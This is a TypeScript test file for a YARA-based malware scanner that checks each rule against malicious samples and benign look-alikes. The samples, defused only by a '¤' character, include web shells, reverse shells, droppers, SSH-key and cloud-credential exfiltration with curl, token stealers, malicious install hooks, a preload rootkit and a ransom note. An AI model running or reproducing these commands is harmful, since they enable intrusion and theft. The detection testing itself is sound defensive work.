import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import t from 'tap'
import { loadNativeEngine } from '../../scanner/yara/native-engine.js'
import { readRuleFiles } from '../../scanner/yara/rule-files.js'
import { RuleSet } from '../../scanner/yara/rule-set.js'

const FOLDER = fileURLToPath(new URL('../../rules/yara', import.meta.url))

/** Samples are written here with `¤` inside: no line of this file works, and few scanners take it for malware. */
const sample = (text: string): Buffer => Buffer.from(text.replaceAll('¤', ''), 'latin1')

const elf = (type: number, text: string): string =>
  `\x7fELF\x02\x01\x01${'\0'.repeat(9)}${String.fromCharCode(type)}\0${text}`

/** What each rule must find, and what looks like it and is honest. */
const RULES: Readonly<
  Record<string, { readonly found: readonly string[]; readonly honest?: readonly string[] }>
> = {
  EICAR_Test_File: { found: ['X5O!P%@AP[4¤\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS¤-TEST-FILE!$H+H*'] },
  PHP_Request_To_Code: {
    found: ['<?php @ev¤al(base64_decode($_POST["c"]));', '<?= sys¤tem( $_GET[0] ) ?>'],
    honest: ['<?php echo htmlspecialchars($_GET["q"]);', '<?php $ok = intval($_POST["id"]); exec("ls");'],
  },
  PHP_Packed_Code: { found: ['<?php ev¤al(gzinflate(base64_decode("x")));'] },
  PHP_Request_Names_Function: {
    found: ['<?php @$_GET["f"]¤($_POST["a"]);', '<? $_REQUEST[0]¤( $_REQUEST[1] );'],
    honest: ['<?php $handlers[$_GET["f"]]($_POST["a"]);', '<?php isset($_GET["a"]) && trim($_POST["b"]);'],
  },
  PHP_Request_To_Written_File: {
    found: ['<?php file_put_¤contents($_GET["n"], base64_decode($_POST["d"]));'],
    honest: ['<?php file_put_contents("log.txt", $_POST["line"]);'],
  },
  JSP_Request_To_Command: {
    found: ['<% Runtime.getRuntime().ex¤ec(request.getParameter("c")); %>'],
    honest: ['<% String name = request.getParameter("name"); %>'],
  },
  JSP_Request_To_Class: {
    found: [
      '<%! class U extends Class¤Loader { Class g(byte[] b) { return defineClass(b, 0, b.length); } } %><% new U().g(decode(request.getReader().readLine())); %>',
    ],
  },
  ASPX_Request_To_Code: {
    found: [
      '<%@ Page Language="Jscript"%><%ev¤al(Request.Item["p"],"unsafe");%>',
      '<%execu¤te request("c")%>',
    ],
    honest: ['<%= Server.HtmlEncode(Request.Form["name"]) %>'],
  },
  ASPX_Request_To_Process: {
    found: [
      '<% var s = new ProcessStart¤Info(); s.FileName = "cmd.exe"; s.Arguments = "/c " + Request.Form["c"]; %>',
    ],
  },
  Python_Request_To_Command: {
    found: [
      'return subprocess.check_¤output(request.args.get("c"), shell=True)',
      'os.sys¤tem(request.form["c"])',
    ],
    honest: ['subprocess.run(["convert", name])', 'value = request.args.get("c")'],
  },
  Perl_CGI_To_Command: {
    found: ['use CGI; my $q = CGI->new; print `$q->par¤am("c")`;'.replace('`$q', '`$q')],
  },
  Bash_Dev_Tcp_Shell: {
    found: [
      'bash -i >& /dev/t¤cp/192.0.2.1/443 0>&1',
      'exec 5<>/dev/t¤cp/192.0.2.1/443; cat <&5 | while read l; do sh -c "$l"; done',
    ],
    honest: ['timeout 1 bash -c "</dev/tcp/db/5432" && echo up'],
  },
  Netcat_Fifo_Shell: {
    found: ['rm -f /tmp/p; mkfi¤fo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/p'],
    honest: ['mkfifo /tmp/p; tar c . > /tmp/p & nc host 99 < /tmp/p'],
  },
  Python_Socket_Shell: {
    found: [
      'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",443));[os.du¤p2(s.fileno(),0)];pty.spawn("/bin/sh")',
    ],
    honest: ['s.connect(("localhost", 80)); s.send(b"GET / HTTP/1.0")'],
  },
  Perl_Socket_Shell: {
    found: [
      'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&¤S");open(STDOUT,">&S");exec("/bin/sh -i");\'',
    ],
  },
  PHP_Socket_Shell: {
    found: ['<?php $s=fsock¤open("192.0.2.1",443);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$x);'],
    honest: ['<?php $s = fsockopen("smtp.example.org", 25); exec("ls");'],
  },
  Ruby_Socket_Shell: {
    found: [
      'require "socket";f=TCPSocket.op¤en("192.0.2.1",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)',
    ],
  },
  Node_Socket_Shell: {
    found: [
      'const cp=require("child_process"),s=new net.Socket();const sh=cp.spa¤wn("/bin/sh",[]);s.connect(443,"192.0.2.1",()=>{s.pipe(sh.stdin)})',
    ],
    honest: [
      'const child = require("child_process").spawn("/bin/sh", ["-c", "ls"]); input.pipe(child.stdin)',
    ],
  },
  Powershell_Tcp_Shell: {
    found: [
      '$c=New-Object Net.Sockets.TCPCl¤ient("192.0.2.1",443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,9)) -ne 0){iex $d}',
    ],
  },
  Miner_Settings: {
    found: [
      `{"pools": [{"url": "pool.example.org:3333", "us¤er": "4${'A'.repeat(94)}"}], "donate-¤level": 1}`,
      '{"donate-¤level": 0, "pools": [{"url": "stratum+tcp://pool.example.org:3333"}]}',
    ],
    honest: ['{"pools": [{"url": "db.example.org:5432", "user": "app"}]}'],
  },
  Miner_Program: {
    found: [elf(2, 'stra¤tum+tcp://%s mining.sub¤scribe RandomX')],
    honest: [elf(2, 'stratum server')],
  },
  Miner_Launcher: {
    found: ['curl -sL http://192.0.2.1/xm¤rig -o /tmp/x; /tmp/x -o pool.example.org:3333 -u wal'],
    honest: ['pkill nginx; curl -o file https://example.org/file'],
  },
  Ssh_Key_Sender: {
    found: [
      'curl -F "f=@$HOME/.s¤sh/id_rsa" https://example.org/',
      'tar cz ~/.s¤sh | curl --data-binary @- https://example.org',
    ],
    honest: ['scp -i ~/.ssh/id_rsa file host:', 'tar cz ~/.ssh > backup.tgz'],
  },
  Browser_Password_Stealer: {
    found: [
      'open("Local State"); encrypted¤_key; CryptUnprotect¤Data; open("Login Data"); requests.post("https://discord.com/api/web¤hooks/1/x")',
    ],
    honest: ['"Login Data" "Local State" encrypted_key CryptUnprotectData password_value'],
  },
  Discord_Token_Stealer: {
    found: [
      'path = "Local Storage\\\\level¤db"; re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", x); post("https://discord.com/api/web¤hooks/1")',
    ],
  },
  Environment_Sender: {
    found: [
      'fetch("https://abc.oast¤ify.com/?" + Buffer.from(JSON.stringify(process.e¤nv)).toString("hex"))',
    ],
    honest: ['console.log(JSON.stringify(process.env)); fetch("https://api.example.org")'],
  },
  Cloud_Credential_Stealer: {
    found: [
      'for f in ~/.aws/creden¤tials ~/.config/gcl¤oud/x ~/.kube/con¤fig; do curl -F "f=@$f" https://example.org; done',
    ],
    honest: ['cat ~/.aws/credentials ~/.kube/config ~/.netrc'],
  },
  Shell_Dropper: {
    found: ['cd /tmp || cd /var/r¤un || cd /mnt; wget http://192.0.2.1/b.sh; chmod 777 b.sh; sh b.sh'],
    honest: ['cd /tmp && wget https://example.org/x.tar.gz && chmod +x x && ./x'],
  },
  Many_Architectures_Dropper: {
    found: [
      'wget http://192.0.2.1/b.mi¤ps; wget http://192.0.2.1/b.ar¤m7; wget http://192.0.2.1/b.x8¤6; chmod 777 *',
    ],
    honest: ['for a in mips arm7 x86; do make ARCH=$a; done'],
  },
  Cron_Downloader: {
    found: ['(crontab -l; echo "* * * * * curl -fsSL http://192.0.2.1/a.sh ¤| sh") | crontab -'],
    honest: ['0 3 * * * curl -fsS https://hc.example.org/ping > /dev/null'],
  },
  Ld_Preload_Installer: {
    found: ['echo /usr/local/lib/libx.so >> /etc/ld.so.pre¤load'],
    honest: ['grep jemalloc.so /etc/ld.so.preload'],
  },
  Elf_Ld_Preload_Rootkit: {
    found: [elf(3, '/etc/ld.so.pre¤load\0dlsym\0readdir64\0/proc/net/tcp\0fopen64')],
    honest: [elf(3, 'dlsym\0readdir64\0/proc/net/tcp\0fopen64')],
  },
  Authorized_Key_Backdoor: {
    found: [
      `echo "ssh-rsa ${'A'.repeat(60)} x" >> ~/.s¤sh/authorized_¤keys; chattr +ia ~/.ssh/authorized_keys`,
    ],
    honest: [`echo "ssh-rsa ${'A'.repeat(60)} x" >> ~/.ssh/authorized_keys`],
  },
  Memory_Loader_Script: {
    found: [
      'import os,urllib.request as u;d=u.urlo¤pen("http://192.0.2.1/x").read();f=os.memfd_¤create("");os.write(f,d);os.execv("/proc/self/fd/%d"%f,["x"])',
    ],
    honest: ['fd = os.memfd_create("cache"); os.write(fd, data)'],
  },
  Macro_Fetches_Program: {
    found: ['Sub Auto_¤Open()\nURLDownload¤ToFile 0, u, p, 0, 0\nShell (p)\nEnd Sub'],
    honest: ['Sub Document_Open()\nMsgBox "Hello"\nEnd Sub'],
  },
  Pdf_Launches_Program: {
    found: ['%PDF-1.7\n<< /S /Lau¤nch /Win << /F (cmd.exe) /P (/c x) >> >>'],
    honest: ['%PDF-1.7\n<< /S /URI /URI (https://example.org) >>'],
  },
  Pdf_Opens_Attachment: {
    found: ['%PDF-1.7\n<< /S /JavaScript /JS (this.exportData¤Object({ cName: "x", nLaunch: 2 })) >>'],
  },
  Rtf_Equation_Object: {
    found: ['{\\rtf1{\\object\\objemb{\\*\\objclass Equ¤ation.3}{\\*\\objda¤ta 0105}}}'],
    honest: ['{\\rtf1 a text about Equation.3}'],
  },
  Office_Remote_Template: {
    found: [
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Type="http://x/relationships/attached¤Template" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>',
    ],
  },
  Document_Dde_Command: {
    found: [
      '<?xml version="1.0"?><w:instrText>DDEA¤UTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x"</w:instrText>',
    ],
    honest: ['<?xml version="1.0"?><p>the DDE protocol</p>'],
  },
  Npm_Install_Fetches_Script: {
    found: ['{"scripts": {"postinst¤all": "curl -s https://example.org/x.sh | sh"}}'],
    honest: ['{"scripts": {"postinstall": "node-gyp rebuild", "fetch": "curl https://example.org | sh"}}'],
  },
  Npm_Install_Hidden_Code: {
    found: ['{"scripts": {"preinst¤all": "node -e \\"ev¤al(Buffer.from(\'eA==\',\'base64\')+\'\')\\""}}'],
    honest: ['{"scripts": {"postinstall": "node -e \\"console.log(1)\\""}}'],
  },
  Python_Setup_Fetches_Program: {
    found: [
      'from setuptools import setup\nclass I:\n def run(s): open("x","wb").write(urlo¤pen("https://example.org/x").read()); os.sys¤tem("x")\nsetup(cmdclass={"install": I})',
    ],
    honest: ['from setuptools import setup\nsetup(cmdclass={"build": B})'],
  },
  Python_Hidden_Code: {
    found: ['ex¤ec(__import__("base64").b64decode("eA=="))', 'ex¤ec(marshal.loads(b"x"))'],
    honest: ['data = base64.b64decode(text); exec(code)'],
  },
  Ransom_Note: {
    found: [
      'All your files have been encry¤pted! Send 2 bitcoin and write to x@protonmail.com. Only we have the private key. Do not rename files.',
    ],
    honest: ['Backups have been encrypted. The private key is in the vault. Do not rename files.'],
  },
}

t.test('every rule finds what it is for, and nothing honest', async (t) => {
  const problems: never[] = []
  const files = readRuleFiles([FOLDER], problems)
  const rules = RuleSet.compile(files, await loadNativeEngine(), problems)
  t.strictSame(problems, [])
  const names = (text: string): readonly string[] => rules.scan(sample(text)).map(({ rule }) => rule)
  for (const [name, { found, honest = [] }] of Object.entries(RULES)) {
    for (const text of found) t.ok(names(text).includes(name), `${name}: ${text.replaceAll('¤', '')}`)
    for (const text of honest) t.strictSame(names(text), [], `${name}, honest: ${text}`)
  }
  t.equal(rules.size, Object.keys(RULES).length, 'each rule has its samples')
  for (const { found } of Object.values(RULES))
    for (const text of found)
      for (const { meta, rule } of rules.scan(sample(text)))
        t.type(meta.score, 'number', `${rule} has a score`)
})

t.test('the rules do not find themselves', async (t) => {
  const files = readRuleFiles([FOLDER], [])
  const rules = RuleSet.compile(files, await loadNativeEngine(), [])
  for (const { file, text } of files) t.strictSame(rules.scan(Buffer.from(text)), [], file)
})

t.test('each rule says what it means, how sure it is and where it comes from', async (t) => {
  for (const file of readdirSync(FOLDER).filter((name) => name.endsWith('.yar')))
    for (const [rule] of readFileSync(join(FOLDER, file), 'utf8').matchAll(/^rule [^]*?^}/gm))
      for (const key of ['description', 'score', 'provenance'])
        t.match(rule, new RegExp(`^    ${key} = `, 'm'), `${rule.slice(0, 60)}: ${key}`)
})
